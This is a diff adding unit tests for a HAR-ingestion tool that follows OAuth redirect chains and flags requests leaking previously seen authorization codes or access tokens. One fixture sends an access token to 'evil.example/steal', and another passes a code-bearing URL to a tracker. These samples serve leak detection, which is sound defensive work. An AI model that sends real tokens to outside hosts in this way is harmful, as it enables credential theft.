@@ -220,6 +220,43 @@ describe('ingestHar: redirects', () => {
   });
 });
 
+describe('ingestHar: ids do not depend on the fast path', () => {
+  it('names a hop after the entry its chain started at, even when earlier hops were dropped', () => {
+    const entries = [
+      entry('GET', 'https://as.example/interaction/abc/abort', { response: { status: 303, headers: [{ name: 'Location', value: '/auth/abc' }] } }),
+      entry('GET', 'https://as.example/auth/abc', { response: { status: 303, redirectURL: 'https://app.example/cb?error=access_denied&state=s1' } }),
+      entry('GET', 'https://app.example/cb?error=access_denied&state=s1'),
+    ];
+    const fast = ingestHar(har(entries)).events.map((e) => e.id);
+    const all = ingestHar(har(entries), { keepAll: true }).events.map((e) => e.id);
+    expect(fast).toEqual(['0.1', '0.2']);
+    expect(all).toEqual(['0', '0.1', '0.2']);
+  });
+
+  it('keeps a later request whose URL carries a code seen before, however it is encoded', () => {
+    const code = '4O0Z7s8SSImz-dOVFov5MB344sR3Xq26eKT';
+    const { events } = ingestHar(
+      har([
+        entry('GET', `https://app.example/callback?code=${code}&state=s1`),
+        entry('GET', 'https://cdn.example/app.js'),
+        entry('GET', `https://tracker.example/collect?v=1&dl=${encodeURIComponent(`https://app.example/callback?code=${code}`)}`),
+        entry('GET', 'https://tracker.example/collect?v=1&dl=https%3A%2F%2Fapp.example%2F'),
+      ]),
+    );
+    expect(events.map((e) => e.id)).toEqual(['0', '2']);
+  });
+
+  it('watches tokens from token responses too', () => {
+    const { events } = ingestHar(
+      har([
+        entry('POST', 'https://as.example/token', { request: { postData: { mimeType: 'application/x-www-form-urlencoded', text: 'grant_type=refresh_token&refresh_token=r1' } }, response: { content: { size: 1, mimeType: 'application/json', text: '{"access_token":"at-0123456789abcdef"}' } } }),
+        entry('GET', 'https://evil.example/steal?t=at-0123456789abcdef'),
+      ]),
+    );
+    expect(events.map((e) => e.id)).toEqual(['0', '1']);
+  });
+});
+
 describe('ingestHar: fast path', () => {
   const ordinary = [
     entry('GET', 'https://cdn.example/app.js', { _resourceType: 'script' }),
